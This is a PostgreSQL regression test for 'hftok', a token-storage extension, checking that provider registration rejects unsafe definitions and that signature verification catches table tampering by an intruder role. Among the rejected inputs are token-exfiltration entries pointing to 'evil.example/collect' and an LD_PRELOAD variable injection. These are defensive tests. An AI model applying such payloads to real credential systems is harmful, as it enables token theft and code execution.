-- The catalogue: what an operator may say of providers, that only what hftok signed is believed, and that verify() sees what was
-- changed behind it. The intruder may read and write all tables, row security or not, and has no key.

\set VERBOSITY terse
\i tests/sql/include/await.sql
CREATE ROLE regress_operator LOGIN IN ROLE hftok_admin;
CREATE ROLE regress_backend LOGIN IN ROLE hftok_service;
CREATE ROLE regress_intruder BYPASSRLS IN ROLE pg_read_all_data, pg_write_all_data;
SELECT kind, failed FROM hftok.verify();
SELECT hftok.save_hf_token('hf_abcdefghijklmnopqrstuvwxyzABCDEFGH', p_user_id => 'alice') IS NOT NULL AS saved,
    hftok.save_credential('groq', 'gsk_' || repeat('a1', 26), p_user_id => 'alice') IS NOT NULL AS another;

-- The catalogue's own entries are taken, and change nothing.
SET ROLE regress_operator;
SELECT count(hftok.register_provider(to_jsonb(p))) = count(*) AS all_taken FROM hftok.providers p;
SELECT count(*) FILTER (WHERE hftok.unregister_provider(name)) = count(*) AS taken_back FROM hftok.providers;
-- One thing is said of a built-in provider, and all else stays: its variables, its formats.
SELECT hftok.register_provider(to_jsonb(p) || '{"hosts": ["huggingface.co"], "label": "Ours"}') FROM hftok.providers p WHERE name = 'huggingface';
SELECT label, hosts, env, jsonb_array_length(formats) AS formats, environment -> 'unset' AS unset, test ->> 'url' AS test, builtin FROM hftok.providers WHERE name = 'huggingface';
SET ROLE regress_backend;
SELECT ok, warnings FROM hftok.check_credential('openai', 'hf_abcdefghijklmnopqrstuvwxyzABCDEFGH');
SELECT hftok.runner_env('{huggingface}', 'nobody');
SELECT source FROM hftok.resolve_token('huggingface', 'alice', p_host => 'huggingface.co');
SELECT hftok.resolve_token('huggingface', 'alice', p_host => 'router.huggingface.co');
SET ROLE regress_operator;
-- The next entry takes the place of the one before.
SELECT hftok.register_provider('{"name": "huggingface", "docs_url": "https://wiki.example/tokens"}');
SELECT label, docs_url, cardinality(hosts) AS hosts FROM hftok.providers WHERE name = 'huggingface';

-- Refused: whatever would take tokens further, and whatever nobody would read.
SELECT given, hftok.register_provider(given) FROM jsonb_array_elements('[{"name": "huggingface", "hosts": ["evil.example"]}]') AS g (given);
SELECT hftok.register_provider('{"name": "huggingface", "hosts": ["huggingface.co", "*.cloud"]}');
SELECT hftok.register_provider('{"name": "huggingface", "test": {"method": "GET", "url": "https://evil.example/collect", "headers": {"Authorization": "Bearer {token}"}}}');
SELECT hftok.register_provider('{"name": "huggingface", "hosts": ["router.huggingface.co"]}');
SELECT hftok.register_provider('{"name": "huggingface", "fields": [{"name": "token", "env": ["LD_PRELOAD"]}]}');
SELECT hftok.register_provider('{"name": "huggingface", "fields": [{"name": "token", "secret": false}]}');
SELECT hftok.register_provider('{"name": "x", "label": "X", "fields": [{"name": "key", "secret": true}], "host": ["a.example"]}');
SELECT hftok.register_provider('{"name": "x", "label": "X", "fields": [{"name": "key", "secret": true, "envs": ["X_KEY"]}]}');
SELECT hftok.register_provider('{"name": "x", "label": "X", "fields": [{"name": "key", "secret": true}], "hosts": ["https://a.example/v1"]}');
SELECT hftok.register_provider('{"name": "x", "label": "X", "fields": [{"name": "key", "secret": true}], "hosts": ["a.example:8443"]}');
SELECT hftok.register_provider('{"name": "x", "label": "X", "fields": [{"name": "key", "secret": true}], "env": ["X_KEY"]}');

-- The base address of the OpenAI protocol: shown, on one of the hosts, and gone with its host.
SELECT name, openai FROM hftok.providers WHERE name IN ('groq', 'azure_openai', 'aws') ORDER BY name;
SELECT hftok.register_provider('{"name": "groq", "openai": "https://evil.example/v1"}');
SELECT hftok.register_provider('{"name": "groq", "openai": "http://api.groq.com/v1"}');
SELECT hftok.register_provider('{"name": "aws", "openai": "https://sts.amazonaws.com/{secret_access_key}"}');
SELECT hftok.register_provider('{"name": "groq", "hosts": ["api.groq.com", "localhost"], "openai": "http://localhost:8080/v1"}');
SELECT name, openai FROM hftok.providers WHERE name = 'groq';
SELECT hftok.register_provider(to_jsonb(p) || '{"hosts": ["huggingface.co"]}') FROM hftok.providers p WHERE name = 'huggingface';
SELECT name, openai FROM hftok.providers WHERE name = 'huggingface';
SELECT hftok.unregister_provider('groq'), hftok.register_provider('{"name": "huggingface", "docs_url": "https://wiki.example/tokens"}');

-- Taken back: a built-in one is as it was, one of the operator's own goes, but not from under its credentials.
SELECT hftok.register_provider('{"name": "own", "label": "Own", "fields": [{"name": "key", "secret": true, "env": ["OWN_KEY"]}], "hosts": ["a.example"]}');
SELECT hftok.save_credential('own', 'key-of-the-team', p_global => true) IS NOT NULL AS saved;
SELECT hftok.unregister_provider('huggingface'), hftok.unregister_provider('huggingface') AS again, hftok.unregister_provider('nobody knows') AS unknown;
SELECT label, docs_url, builtin FROM hftok.providers WHERE name = 'huggingface';
SELECT hftok.unregister_provider('own');
SELECT hftok.delete_credential('own', p_global => true), hftok.unregister_provider('own');
SELECT hftok.unregister_provider(NULL);
SET ROLE regress_backend;
SELECT hftok.unregister_provider('own');
RESET ROLE;
CALL pg_temp.await_audit();
SELECT action, provider, digest IS NOT NULL AS described, role_name FROM hftok.audit_events WHERE owner_scope = 'catalogue' AND provider IN ('own', 'huggingface') ORDER BY id DESC LIMIT 4;

-- Written into the table: the token goes nowhere, the built-in description does not take its place, others go on.
SELECT hftok.register_provider('{"name": "groq", "label": "Ours"}');
CREATE TABLE regress_signed AS SELECT * FROM hftok_private.providers;
SELECT hftok.register_provider('{"name": "groq", "label": "Ours", "docs_url": "https://wiki.example/groq"}');
SELECT kind, id, reason, failed FROM hftok.verify();
CREATE PROCEDURE pg_temp.intrude(what text, act text) LANGUAGE plpgsql AS $$
DECLARE
    found record;
BEGIN
    SET LOCAL ROLE regress_intruder;
    EXECUTE act;
    RESET ROLE;
    RAISE NOTICE '--- %', what;
    FOR found IN SELECT v.kind, v.id, v.reason FROM hftok.verify() v WHERE v.kind <> 'total' LOOP
        RAISE NOTICE '%', found;
    END LOOP;
    BEGIN
        RAISE NOTICE 'token: %', (SELECT t.source FROM hftok.resolve_token('huggingface', 'alice', p_host => 'evil.example') t);
    EXCEPTION WHEN OTHERS THEN
        GET STACKED DIAGNOSTICS act = PG_EXCEPTION_DETAIL;
        RAISE NOTICE 'token: % %', SQLERRM, regexp_replace(act, '"[0-9a-f-]{36}"', '"id"');
    END;
    RAISE NOTICE 'groq: %', (SELECT t.source FROM hftok.resolve_token('groq', 'alice') t);
    RAISE NOTICE 'view: %', (SELECT to_jsonb(p) - 'env' - 'environment' FROM hftok.providers p WHERE p.name = 'huggingface' AND NOT p.builtin);
    ROLLBACK;
END
$$;
CALL pg_temp.intrude('inserted', $act$
    INSERT INTO hftok_private.providers (id, definition, signature)
    VALUES ('huggingface', '{"id":"huggingface","hosts":["evil.example"]}', '\x00') $act$);
CALL pg_temp.intrude('inserted with the signature of another', $act$
    INSERT INTO hftok_private.providers (id, definition, signature)
    SELECT 'huggingface', p.definition, p.signature FROM hftok_private.providers p WHERE p.id = 'groq' $act$);
CALL pg_temp.intrude('of another with a variable that runs code', $act$
    UPDATE hftok_private.providers SET id = 'huggingface', definition = replace(definition, '"Ours"', '"Ours","fields":[{"name":"api_key","env":["LD_PRELOAD"]}]') $act$);
CALL pg_temp.intrude('not even JSON', $act$
    INSERT INTO hftok_private.providers (id, definition, signature) VALUES ('huggingface', 'x', '') $act$);
CALL pg_temp.intrude('deleted', $act$ DELETE FROM hftok_private.providers $act$);
CALL pg_temp.intrude('put back old', $act$
    UPDATE hftok_private.providers p SET definition = f.definition, signature = f.signature FROM (SELECT * FROM public.regress_signed) f WHERE f.id = p.id $act$);
-- All at once skips it, says so, and still keeps a token that was inherited from being used.
BEGIN;
INSERT INTO hftok_private.providers (id, definition, signature) VALUES ('huggingface', '{}', '\x00');
SELECT key, value IS NOT NULL AS given FROM jsonb_each_text(hftok.runner_env(NULL, 'alice')) WHERE key ~ '^HF_TOKEN|GROQ' ORDER BY key;
SAVEPOINT s;
SELECT hftok.runner_env('{huggingface}', 'alice');
ROLLBACK TO s;
-- Registered anew, or taken back, it is well again.
SELECT hftok.unregister_provider('huggingface');
SELECT kind, id, reason, failed FROM hftok.verify();
ROLLBACK;
-- Purged, the audit still knows.
SET client_min_messages = error;
CALL pg_temp.await_audit();
\i tests/sql/include/purge.sql
RESET client_min_messages;
SELECT kind, id, reason, failed FROM hftok.verify();
-- Sealed, nothing is registered, and nothing that was is believed; what is built in goes on.
SELECT hftok.seal();
SELECT hftok.register_provider('{"name": "huggingface", "label": "Sealed"}');
SELECT hftok.unregister_provider('groq');
SELECT name, label, builtin FROM hftok.providers WHERE name IN ('groq', 'openai') ORDER BY name;
SELECT hftok.token_provided('groq', 'alice');
SELECT hftok.unseal() IS NOT NULL AS unsealed;
SELECT label FROM hftok.providers WHERE name = 'groq';

SELECT hftok.unregister_provider('groq');
SELECT credentials FROM hftok.forget_user('alice');
DROP TABLE regress_signed;
DROP ROLE regress_operator, regress_backend, regress_intruder;
SELECT kind, id, reason, failed FROM hftok.verify();
